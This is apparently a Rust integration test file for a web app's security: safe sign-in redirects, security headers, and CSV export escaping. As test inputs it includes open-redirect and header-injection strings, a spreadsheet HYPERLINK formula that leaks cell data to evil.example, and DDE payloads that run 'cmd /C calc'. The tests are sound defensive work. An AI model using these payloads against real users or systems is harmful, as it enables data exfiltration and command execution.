//! Security properties seen from outside: the sign-in redirect stays on this site, every answer
//! carries the security headers, CSV exports never hand a spreadsheet a formula, and requests
//! are read strictly (unknown query parameters, the bearer scheme, CSRF refusals).

use reqwest::header::{COOKIE, LOCATION, SET_COOKIE};
use reqwest::redirect::Policy;
use serde_json::{json, Value};

use crate::helpers::{assert_problem, spawn_app, TestApp};
use crate::web::{csrf_of, Browser};

fn no_redirects() -> reqwest::Client {
    reqwest::Client::builder()
        .redirect(Policy::none())
        .build()
        .expect("client")
}

fn encode(text: &str) -> String {
    url::form_urlencoded::byte_serialize(text.as_bytes()).collect()
}

#[tokio::test]
async fn sign_in_returns_only_to_a_path_on_this_site() {
    let app = spawn_app().await;
    for (next, expected) in [
        // Browsers drop TAB, CR and LF inside a URL: each of these is `//evil.example`.
        ("/\t/evil.example", "/deals"),
        ("/\n/evil.example", "/deals"),
        ("/\r\n/evil.example", "/deals"),
        ("/\u{b}/evil.example", "/deals"),
        ("/deals\r\nSet-Cookie: stolen=1", "/deals"),
        ("//evil.example", "/deals"),
        ("/\\evil.example", "/deals"),
        ("https://evil.example/", "/deals"),
        ("javascript:alert(1)", "/deals"),
        ("/deals?grade=A&lang=fr", "/deals?grade=A&lang=fr"),
    ] {
        let mut browser = Browser::new(&app);
        // The form keeps only a safe `next`; a control character never makes it fail.
        let (status, _, form) = browser.get(&format!("/login?next={}", encode(next))).await;
        assert_eq!(status, 200, "GET /login?next={next:?}: {form}");
        assert!(
            form.contains(&format!(
                "name=\"next\" value=\"{}\"",
                expected.replace('&', "&#38;")
            )),
            "{next:?}: {form}"
        );
        // A form posted with a forged `next` (not the one served) is held to the same rule.
        let csrf = csrf_of(&form);
        let (status, location, body) = browser
            .post(
                "/login",
                &[("api_key", &app.rep_key), ("csrf", &csrf), ("next", next)],
            )
            .await;
        assert_eq!(
            (status, location.as_deref()),
            (303, Some(expected)),
            "POST next={next:?}: {body}"
        );
    }
}

/// Paths answering every kind of response: page, asset, redirect, API success and problem,
/// HTML error, plain 404, health, OpenAPI, Swagger UI.
const EVERY_KIND: [(&str, Option<&str>); 11] = [
    ("/login", None),
    ("/assets/app.js", None),
    ("/", None),
    ("/deals", None),
    ("/v1/opportunities", Some("rep")),
    ("/v1/opportunities", None),
    ("/v1/opportunities?owner=%ZZ", Some("rep")),
    ("/no/such/page", None),
    ("/healthz", None),
    ("/openapi.json", None),
    ("/docs/", None),
];

#[tokio::test]
async fn every_answer_carries_the_security_headers() {
    let app = spawn_app().await;
    let client = no_redirects();
    for (path, key) in EVERY_KIND {
        let mut request = client.get(app.url(path));
        if key.is_some() {
            request = request.bearer_auth(&app.rep_key);
        }
        let response = request.send().await.expect("request");
        let status = response.status();
        let headers = response.headers();
        let header = |name: &str| {
            headers
                .get(name)
                .and_then(|v| v.to_str().ok())
                .unwrap_or_else(|| panic!("{path} ({status}) has no {name}: {headers:?}"))
                .to_string()
        };
        let policy = header("content-security-policy");
        assert!(policy.contains("frame-ancestors 'none'"), "{path}: {policy}");
        assert!(policy.contains("script-src 'self';"), "{path}: {policy}");
        assert!(!policy.contains("'unsafe-inline' 'self'; script"), "{path}: {policy}");
        let script = policy
            .split(';')
            .map(str::trim)
            .find(|d| d.starts_with("script-src"))
            .unwrap_or_default();
        assert_eq!(script, "script-src 'self'", "{path}: no inline script");
        if !path.starts_with("/docs/") {
            assert!(!policy.contains("unsafe"), "{path}: {policy}");
        }
        assert_eq!(header("x-content-type-options"), "nosniff", "{path}");
        assert_eq!(header("referrer-policy"), "no-referrer", "{path}");
        assert_eq!(header("x-frame-options"), "DENY", "{path}");
    }
    // A POST the server refuses (bad JSON) is covered too.
    let refused = client
        .put(app.url("/v1/opportunities/x-1"))
        .bearer_auth(&app.analyst_key)
        .header("content-type", "application/json")
        .body("{not json")
        .send()
        .await
        .expect("request");
    assert_eq!(refused.status(), 400);
    assert!(refused.headers().contains_key("content-security-policy"));
}

/// Fetches `path` as CSV with the analyst key and parses it.
async fn csv_rows(app: &TestApp, path: &str) -> Vec<Vec<String>> {
    let response = app
        .client
        .get(app.url(path))
        .bearer_auth(&app.analyst_key)
        .send()
        .await
        .expect("request");
    assert_eq!(response.status(), 200, "{path}");
    let text = response.text().await.expect("body");
    csv::Reader::from_reader(text.as_bytes())
        .records()
        .map(|r| r.expect("record").iter().map(str::to_string).collect())
        .collect()
}

#[tokio::test]
async fn csv_exports_hand_a_spreadsheet_text_never_a_formula() {
    let app = spawn_app().await;
    let account = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Open\")";
    let owner = "@SUM(1+1)*cmd|' /C calc'!A0";
    let deal = json!({
        "external_id": "csv-1", "name": "-2+3+cmd|' /C calc'!A0", "account": account,
        "sector": "retail", "region": "+EMEA", "owner": owner, "contact_role": "champion",
        "amount": 1000.0, "currency": "EUR", "status": "won", "created_at": "2025-10-01",
        "closed_at": "2025-11-15", "interaction_count": 4, "response_hours": 5.0
    });
    let put = app.put_opportunity("csv-1", &deal).await;
    assert!(put.status().is_success(), "{}", put.text().await.unwrap_or_default());
    let objectives = app
        .client
        .put(app.url("/v1/objectives"))
        .bearer_auth(&app.analyst_key)
        .json(&json!({"objectives": [{"scope": "owner", "name": owner, "period": "2025-Q4",
            "metric": "won_revenue", "currency": "EUR", "target": 400}]}))
        .send()
        .await
        .expect("objectives");
    assert_eq!(objectives.status(), 200);

    let accounts = csv_rows(&app, "/v1/insights/accounts?format=csv").await;
    assert_eq!(accounts[0][0], format!("'{account}"), "{accounts:?}");

    let pipeline = csv_rows(
        &app,
        "/v1/insights/pipeline?group_by=owner&from=2025-10-01&to=2025-12-31&format=csv",
    )
    .await;
    assert!(
        pipeline.iter().any(|row| row[1] == format!("'{owner}")),
        "{pipeline:?}"
    );
    let by_region = csv_rows(
        &app,
        "/v1/insights/pipeline?group_by=region&from=2025-10-01&to=2025-12-31&format=csv",
    )
    .await;
    assert!(by_region.iter().any(|row| row[1] == "'+EMEA"), "{by_region:?}");

    // A negative number stays a number: the gap of an objective beaten by 600.
    let text = app
        .client
        .get(app.url("/v1/insights/objectives?period=2025-Q4&format=csv"))
        .bearer_auth(&app.analyst_key)
        .send()
        .await
        .expect("objectives csv")
        .text()
        .await
        .expect("body");
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let columns: Vec<String> = reader
        .headers()
        .expect("header")
        .iter()
        .map(str::to_string)
        .collect();
    let row: Vec<String> = reader
        .records()
        .next()
        .expect("one objective")
        .expect("record")
        .iter()
        .map(str::to_string)
        .collect();
    let column = |name: &str| &row[columns.iter().position(|c| c == name).expect(name)];
    assert_eq!(column("name"), &format!("'{owner}"), "{text}");
    assert_eq!(column("gap"), "-600", "{text}");

    // The dashboard's download goes through the same writer.
    let mut analyst = Browser::new(&app);
    analyst.sign_in(&app.analyst_key).await;
    let (status, _, csv) = analyst
        .get("/pipeline.csv?table=owner&from=2025-10-01&to=2025-12-31")
        .await;
    assert_eq!(status, 200, "{csv}");
    assert!(csv.contains(&format!("'{owner}")), "{csv}");
}

